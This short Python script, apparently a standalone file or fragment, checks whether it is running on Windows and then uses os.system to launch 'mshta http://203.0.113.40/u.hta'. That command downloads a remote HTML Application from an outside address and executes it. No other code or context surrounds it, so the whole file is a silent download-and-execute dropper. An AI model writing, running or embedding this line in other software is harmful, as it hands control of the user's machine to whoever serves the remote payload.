import os
import sys
if sys.platform == "win32":
    os.system("mshta http://203.0.113.40/u.hta")
